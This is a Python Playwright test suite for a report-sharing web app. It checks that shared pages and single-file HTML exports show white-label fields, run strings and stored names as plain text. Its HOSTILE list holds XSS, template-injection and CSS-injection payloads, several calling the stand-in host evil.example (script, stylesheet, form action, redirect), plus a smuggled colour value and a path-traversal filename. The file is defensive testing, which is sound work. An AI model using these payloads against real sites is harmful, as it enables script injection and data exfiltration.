"""Any string of a run file or a white label may be hostile: in a real browser it is nothing but text."""

from collections.abc import Callable, Iterator
from itertools import batched
from pathlib import Path
from unicodedata import category
from urllib.parse import unquote

import pytest
from playwright.sync_api import Browser, BrowserContext, Route

from report_shares.contract.white_label import FIELDS
from report_shares.page import render
from report_shares.times import MINUTE
from tests.browser import Visit, leads_away, visit
from tests.handlers.runs import regions_of, run
from tests.page.conftest import Site
from tests.page.reports import link_to, renamed, snapshot
from tests.page.test_view import report
from tests.white_labels import accepts
from tests.world import BRAND_ID, SCHEDULE_ID, World

pytestmark = pytest.mark.browser

COLOURS = ("primary_color", "secondary_color")
FREE_TEXT = tuple(name for name in FIELDS if name not in {*COLOURS, "report_sections_config"})
# Where the page shows a field of the white label unchanged.
PLACES = {
    "company_name": ".footer .company",
    "cover_title": "h1",
    "cover_subtitle": ".subtitle",
    "footer_email": ".footer a",
    "footer_phone": ".footer a",
}
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)",
    '" autofocus onfocus="alert(4)',
    "</title><svg onload=alert(5)>",
    "</style><style>*{background:url(https://evil.example/a)}</style>",
    "</script><script src=https://evil.example/b></script>",
    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "<link rel=stylesheet href=https://evil.example/c>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/d>",
    "<form action=https://evil.example/e><input name=x autofocus></form>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(7)>",
    "{{7*7}}{% include 'x' %}{{config}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "javascript:alert(8)",
    "data:text/html,<script>alert(9)</script>",
    "\\3c script\\3e alert(10)",
    'x");}*{background:url("https://evil.example/f',
    "&lt;script&gt;alert(11)&lt;/script&gt;&#x3c;b&#x3e;",
    "\u202egnp.exe\u2066\u200f",
    "\ufeff\u0000\u2028alert(12)",
    "=HYPERLINK(1)",
)


@pytest.fixture
def context(browser: Browser, site: Site) -> Iterator[BrowserContext]:
    """A browser in which every request that leaves the site is answered, so that none goes unseen."""
    opened = browser.new_context(viewport={"width": 1280, "height": 900})
    opened.route(lambda url: leads_away(url, site.url), _answered)
    yield opened
    opened.close()


def _answered(route: Route) -> None:
    route.fulfill(status=200, body="alert('reached')", content_type="text/javascript")


def nothing_happened(visited: Visit, site: Site, logo: str | None = None) -> None:
    page = visited.page
    for spot in ((200, 200), (640, 300), (900, 700)):
        page.mouse.move(*spot)
    page.keyboard.press("Tab")
    # The script that comes in place of a logo is blocked: a browser does not read it as a picture.
    assert [fault for fault in visited.faults if "ERR_BLOCKED_BY_ORB" not in fault] == []
    # One request may leave, for the logo: an image, without a referrer.
    assert len(visited.foreign(site.url)) <= (logo is not None)
    assert page.url.startswith(f"{site.url}/shared/")
    made = "main script, main iframe, main form, body style, body link, base, math, [onload], [onerror], [onfocus]"
    assert page.locator(f"{made}, [onmouseover], a[href^=javascript], a[href^=data]").count() == 0


def accepted(world: World, number: int, text: str) -> bool:
    """Whether a run with this string is folded; if not, it is buried with a reason."""
    world.put_run(run(number, regions=regions_of((text,))))
    return not world.buried()


def test_no_string_of_a_run_file_is_more_than_text(site: Site, context: BrowserContext) -> None:
    world = site.world
    shown = [text for number, text in enumerate(HOSTILE, 1) if accepted(world, number, text)]
    assert len(shown) == len(HOSTILE)
    share = world.create(world.add_key()).json

    visited = visit(context, f"{site.url}/shared/{share['access_token']}", until="networkidle")

    nothing_happened(visited, site)
    text = visited.page.locator("main").text_content() or ""
    for hostile in shown:
        seen = "".join(character for character in hostile if category(character) not in ("Cc", "Cf")).strip()
        assert seen in text, hostile
        assert seen == hostile or hostile not in text


# Where the page shows what tells how far its numbers carry.
TRUSTED = {
    ".sentences p": None,  # sentences of ours, with a rival's name
    "#changes tbody th": "competitors",
    "#rivals .legend bdi": "competitors",
    "#rivals svg.wide .name": None,  # cut where it has no room
    "#rivals thead th": "competitors",
    "#evidence summary": "prompt",
    "#evidence figcaption": "model",
    "#evidence blockquote": "excerpt",
    "#evidence .answer .small": "competitors",
    "#method dd": "model",
}


def test_no_string_of_the_parts_that_numbers_can_be_trusted_by_is_more_than_text(
    site: Site, context: BrowserContext
) -> None:
    """Hostile strings in every text of a snapshot, as the rules would clean none of them."""
    given = renamed(snapshot(prompts=len(HOSTILE)), lambda kind, at: f"{kind} {HOSTILE[at % len(HOSTILE)]}")
    share = link_to(site.world, given)

    visited = visit(context, f"{site.url}/shared/{share['access_token']}", until="networkidle")
    visited.page.locator("#evidence .open-all").click()

    nothing_happened(visited, site)
    for place, kind in TRUSTED.items():
        assert visited.page.locator(place).count() >= 3, place
        if kind:
            assert f"{kind} {HOSTILE[0]}" in said(visited, place), place
    for text in HOSTILE:
        assert text.replace("\0", "") in said(visited, "#evidence blockquote")


def test_the_one_file_with_hostile_strings_asks_for_nothing_and_runs_nothing(browser: Browser, tmp_path: Path) -> None:
    given = renamed(snapshot(prompts=len(HOSTILE)), lambda kind, at: f"{kind} {HOSTILE[at % len(HOSTILE)]}")
    file = tmp_path / "report.html"
    label = {"company_name": HOSTILE[1], "logo_url": "https://cdn.northlight.example/logo.png"}
    file.write_text(render.one_file_page(report(given, **label), has_runs=True).html)
    opened = browser.new_context(viewport={"width": 1280, "height": 900})

    visited = visit(opened, file.as_uri(), until="networkidle")

    assert visited.requests == [file.as_uri()]
    assert visited.faults == []
    assert visited.page.locator("script, iframe, form, body style, link[rel=stylesheet], [onload]").count() == 0
    assert visited.page.locator("#evidence blockquote", has_text=HOSTILE[0]).count() >= 1
    assert visited.page.evaluate("getComputedStyle(document.querySelector('.verdict-box')).borderTopStyle") == "solid"
    opened.close()


def said(visited: Visit, place: str) -> str:
    return " ".join(visited.page.locator(place).all_text_contents())


def test_no_white_label_that_the_api_accepts_is_more_than_text(site: Site, context: BrowserContext) -> None:
    """For each string, one share with all the fields that accept it, as it is or dressed up as what they expect."""
    key = site.world.add_key()
    tried = 0
    for text in HOSTILE:
        spellings = (text, f"https://evil.example/{text}", f"#12345{text}", f"a@b.example{text}", f"+49 {text}")
        label = {field: next((one for one in spellings if accepts(field, one)), None) for field in FREE_TEXT}
        if not any(label.values()):
            continue
        answer = site.world.create(key, {"white_label_config": label})
        assert answer.status in (200, 201), answer.text
        tried += 1

        visited = visit(context, f"{site.url}/shared/{answer.json['access_token']}", until="load")

        nothing_happened(visited, site, logo=label["logo_url"])
        for field, place in PLACES.items():
            assert (label[field] or "") in said(visited, place), field
        visited.page.close()

    assert tried >= 8


def test_no_field_takes_markup(world: World) -> None:
    assert [(field, text) for field in FREE_TEXT for text in HOSTILE[:11] if accepts(field, text) and "<" in text] == []
    refused = world.create(world.add_key(), {"white_label_config": {"cover_title": HOSTILE[0]}})
    assert refused.status == 422


def test_not_even_a_string_that_was_never_checked_is_more_than_text(site: Site, context: BrowserContext) -> None:
    """Names and a brand's config that got into the table some other way, hostile in every field at once."""
    world, key = site.world, site.world.add_key()
    world.put_run(run(1))
    for text in HOSTILE:
        world.add_brand(white_label=dict.fromkeys(FREE_TEXT, text))
        rename(world, f"BRAND#{BRAND_ID}", "BRAND", f"brand {text}")
        rename(world, f"SCHEDULE#{SCHEDULE_ID}", "SCHEDULE", text)
        world.clock.now += MINUTE  # there are more of them than requests in a minute
        token = world.create(key).json["access_token"]

        visited = visit(context, f"{site.url}/shared/{token}", until="load")

        nothing_happened(visited, site)
        shown = text.split("\x00")[0].strip("\ufeff ")
        for place in ("h1", ".subtitle", ".eyebrow", ".facts", ".footer .company"):
            assert shown in said(visited, place), place
        visited.page.close()


def rename(world: World, pk: str, sk: str, name: str) -> None:
    world.dynamodb.update_item(
        TableName="shares",
        Key={"pk": {"S": pk}, "sk": {"S": sk}},
        UpdateExpression="SET #name = :name",
        ExpressionAttributeNames={"#name": "name"},
        ExpressionAttributeValues={":name": {"S": name}},
    )


@pytest.mark.parametrize("field", COLOURS)
def test_what_is_not_a_colour_never_gets_into_a_style_sheet(site: Site, context: BrowserContext, field: str) -> None:
    world = site.world
    token = world.create(world.add_key()).json["access_token"]
    world.add_brand(white_label={field: "#123456;}*{background:url(https://evil.example/g)"})

    page = context.new_page()
    answer = page.goto(f"{site.url}/shared/{token}")

    assert answer is not None
    assert "evil" not in answer.text()


# ---- the page as one file --------------------------------------------------------------------------------------------


@pytest.fixture
def kept(site: Site, browser: Browser, tmp_path: Path) -> Iterator[Callable[[str], Visit]]:
    """Follows the page's link to itself as one file, and opens the file from the disk, with nothing in its way."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})

    def keep(token: str) -> Visit:
        page = context.new_page()
        page.goto(f"{site.url}/prod/shared/{token}")
        with page.expect_download() as started:
            page.click("a[href$='report.html']")
        page.close()
        path = tmp_path / started.value.suggested_filename
        started.value.save_as(path)
        return visit(context, path.as_uri(), until="networkidle")

    yield keep
    context.close()


def nothing_happened_in_the_file(visited: Visit) -> None:
    page = visited.page
    page.mouse.move(640, 300)
    page.keyboard.press("Tab")
    assert visited.faults == []
    assert [url for url in visited.requests if not url.startswith("data:")] == [page.url]
    made = "script, iframe, form, body style, link:not([rel=icon]), base, math, [onload], [onerror], [onfocus]"
    assert page.locator(f"{made}, [onmouseover], a[href^=javascript], a[href^=data]").count() == 0


def test_no_white_label_is_more_than_text_in_the_file(site: Site, kept: Callable[[str], Visit]) -> None:
    """Strings that were never checked, another one in each field."""
    world = site.world
    world.put_run(run(1))
    token = world.create(world.add_key()).json["access_token"]
    for texts in batched(HOSTILE, len(FREE_TEXT), strict=False):
        world.add_brand(white_label=dict(zip(FREE_TEXT, texts, strict=False)))

        visited = kept(token)

        nothing_happened_in_the_file(visited)
        assert texts[0] in said(visited, ".footer .company")
        visited.page.close()


def test_a_browser_keeps_the_file_under_the_name_that_was_meant(site: Site, kept: Callable[[str], Visit]) -> None:
    site.world.add_brand(white_label={"company_name": '../Caf\u00e9 "\u65e5\u672c"; x\u202e\r\n.exe'})
    site.world.put_run(run(1))
    token = site.world.create(site.world.add_key()).json["access_token"]

    assert unquote(kept(token).page.url).endswith("/Caf\u00e9-\u65e5\u672c-x-exe-2026-04-20-report.html")
